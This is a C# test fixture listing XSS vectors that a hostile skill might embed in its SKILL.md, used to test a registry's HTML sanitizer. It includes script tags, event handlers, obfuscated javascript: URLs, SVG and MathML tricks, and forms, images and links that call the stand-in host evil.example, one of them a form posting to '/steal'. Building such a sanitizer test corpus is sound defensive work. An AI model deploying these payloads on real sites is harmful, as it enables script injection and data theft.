using System.Collections.Generic;

namespace SkillRt.Registry.Tests.Web;

/// <summary>
/// Markdown and HTML a hostile skill might put in its SKILL.md body to run script, load something from
/// another server, or pass itself off as the page: script tags, event handlers, javascript:, vbscript:
/// and data: URLs (also disguised by case, entities, tabs and spaces), SVG and MathML tricks, frames,
/// objects, forms, meta refresh, base, styles and classes, ids that clobber the page's, remote images.
/// Every URL points at <see cref="EvilHost"/>, so a browser test sees any request that escapes.
/// The service tests sanitize each; the browser test publishes them all as one skill.
/// </summary>
internal static class XssCorpus
{
    public const string EvilHost = "evil.example";

    public static IReadOnlyList<string> Vectors { get; } =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(2)>",
        "<svg onload=alert(3)><circle r=1 /></svg>",
        "<svg><use href=\"javascript:alert(4)\"/></svg>",
        "<svg><foreignObject><iframe src=\"javascript:alert(5)\"></iframe></foreignObject></svg>",
        "<iframe src=\"https://evil.example/frame\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/embed\">",
        "<form action=\"https://evil.example/steal\"><input name=q><button formaction=\"javascript:alert(9)\">Go</button></form>",
        "[click me](javascript:alert(10))",
        "[click me](JaVaScRiPt:alert(11))",
        "[click me](&#106;avascript:alert(12))",
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=)",
        "<a href=\"vbscript:msgbox(14)\">vb</a>",
        "<a href=\"data:text/html,<script>alert(15)</script>\">data html</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<style>body { background: url(https://evil.example/bg.png) }</style>",
        "<div style=\"background-image: url(https://evil.example/style.png)\">styled</div>",
        "<p class=\"alert alert--ok skip-link\">This skill is verified by SkillRt</p>",
        "![tracking pixel](https://evil.example/pixel.png)",
        "<img src=\"https://evil.example/img.png\" srcset=\"https://evil.example/img2.png 2x\" alt=\"remote\">",
        "<details open ontoggle=alert(24)><summary>toggle</summary>x</details>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(25)></style></mglyph></table></mtext></math>",
        "<a href=\"https://ok.example/\" onclick=\"alert(26)\" target=\"_blank\" ping=\"https://evil.example/ping\">target</a>",
        "<body onload=alert(27)>",
        "<input autofocus onfocus=alert(28)>",
        "<video><source onerror=\"alert(29)\"></video>",
        "<audio src=x onerror=alert(30)></audio>",
        "<!--<img src=x onerror=alert(31)>-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(32)>\"></noscript>",
        "<a href=\"  javascript:alert(33)\">leading spaces</a>",
        "<a href=\"java&#x09;script:alert(34)\">tab inside</a>",
        "<marquee onstart=alert(35)>m</marquee>",
        "<h1 id=\"main\">clobbers the skip link</h1><a id=\"x\" name=\"snippet-1\">named</a>",
        "<svg><a xlink:href=\"javascript:alert(37)\"><text x=\"0\" y=\"10\">svg link</text></a></svg>",
        "<table background=\"https://evil.example/table.png\"><tr><td>cell</td></tr></table>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgzOSk8L3NjcmlwdD4=\"></object>",
        "<a href=\"//evil.example/protocol-relative\">protocol relative</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNDEpPjwvc3ZnPg==\">",
        "<template><img src=x onerror=alert(42)></template>",
        "<button onclick=alert(43)>button</button>",
        "<a href=\"javascript&colon;alert(44)\">colon entity</a>",
    ];

    /// <summary>Every vector, each as its own Markdown paragraph.</summary>
    public static string AsMarkdown() => "# Hostile skill\n\n" + string.Join("\n\n", Vectors) + "\n\nThe end.\n";
}
